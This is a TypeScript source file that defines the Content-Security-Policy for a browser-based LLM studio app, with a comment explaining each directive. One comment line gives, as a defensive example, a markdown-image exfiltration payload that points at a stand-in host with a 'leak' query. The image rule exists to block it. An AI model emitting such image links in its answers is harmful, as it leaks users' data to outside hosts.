/**
 * The Content-Security-Policy of the built app, as a `<meta>` in index.html and as a header from
 * `vite preview`. It allows only what the studio needs:
 * - scripts from this origin, plus compiling WebAssembly (`'wasm-unsafe-eval'`: WebLLM's model
 *   library); no eval, so zod runs `jitless` (zod-config.ts);
 * - workers from this origin or blob: (WebLLM's engine worker);
 * - images only from this origin, data: and blob:, so an image in a model's answer
 *   (`![x](https://other.example/p.png?leak=...)`) cannot call anywhere;
 * - connections to any http(s) or ws(s) endpoint: workers and the Conductor are endpoints the user
 *   configures (a provider over https, Ollama or vLLM over http on localhost or the LAN), so is the
 *   OpenTelemetry collector in Settings (Phoenix, Langfuse, an OTel Collector; its own CORS rules
 *   decide whether it takes the page's POST), and WebLLM downloads weights from Hugging Face;
 * - inline styles (React and React Flow set style attributes), no plugins, no frames, no forms.
 * The dev server gets no policy: Vite's hot reload injects inline scripts.
 */
export const CONTENT_SECURITY_POLICY = [
  "default-src 'self'",
  "script-src 'self' 'wasm-unsafe-eval'",
  "worker-src 'self' blob:",
  "style-src 'self' 'unsafe-inline'",
  "img-src 'self' data: blob:",
  "font-src 'self' data:",
  "media-src 'self' data: blob:",
  "connect-src 'self' https: http: wss: ws: data: blob:",
  "object-src 'none'",
  "frame-src 'none'",
  "base-uri 'none'",
  "form-action 'none'",
].join("; ");
